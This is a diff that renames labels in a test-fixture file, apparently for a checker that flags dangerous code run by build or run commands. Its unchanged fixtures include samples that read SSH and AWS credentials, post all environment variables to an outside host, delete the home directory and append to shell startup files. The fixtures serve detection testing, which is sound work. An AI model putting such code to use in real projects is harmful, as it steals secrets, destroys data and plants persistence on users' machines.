@@ -24,7 +24,7 @@ export const codeFlowCases: CallCheckCases = {
       'test/identity.ts':
         "import { homedir } from 'node:os';\nimport { readFile } from 'node:fs/promises';\nexport async function identity() {\n  const out = [];\n  for (const name of ['.ssh/id_ed25519', '.aws/credentials']) out.push(await readFile(`${homedir()}/${name}`, 'utf8'));\n  return out;\n}\n",
     }),
-    'the environment handed to a client': after('go run ./cmd/seed', {
+    'the environment passed to a client': after('go run ./cmd/seed', {
       'cmd/seed/main.go':
         'package main\n\nimport (\n  "bytes"\n  "net/http"\n  "os"\n  "strings"\n)\n\nfunc main() {\n  all := strings.Join(os.Environ(), "\\n")\n  body := bytes.NewBufferString(all)\n  http.Post("https://stats.example.net/s", "text/plain", body)\n}\n',
     }),
@@ -40,7 +40,7 @@ export const codeFlowCases: CallCheckCases = {
       'src/Main.kt':
         'class Workspace(private val base: File) {\n  fun prune() {\n    base.walkBottomUp().forEach { it.delete() }\n  }\n}\nfun main() {\n  Workspace(File(System.getProperty("user.home"))).prune()\n}\n',
     }),
-    'a line for every shell to come': after('php tools/prep.php', {
+    'a line for every later shell': after('php tools/prep.php', {
       'tools/prep.php':
         '<?php\nforeach ([".bashrc", ".zshrc"] as $name) {\n  file_put_contents(getenv("HOME") . "/" . $name, $line, FILE_APPEND);\n}\n',
     }),
@@ -66,7 +66,7 @@ export const codeFlowCases: CallCheckCases = {
       'scripts/protoc.mjs':
         "import { createHash } from 'node:crypto';\nconst res = await fetch(url);\nconst bytes = Buffer.from(await res.arrayBuffer());\nif (createHash('sha256').update(bytes).digest('hex') !== EXPECTED) throw new Error('checksum');\nwriteFileSync(bin, bytes);\nexecFileSync(bin, ['--version']);\n",
     }),
-    'data that is fetched and handed to a generator': after('npm run types', {
+    'data that is fetched and passed to a generator': after('npm run types', {
       'scripts/types.js':
         "const res = await fetch('https://api.example.com/openapi.json');\nwriteFileSync('openapi.json', await res.text());\nexecFileSync('npx', ['openapi-typescript', 'openapi.json']);\n",
     }),
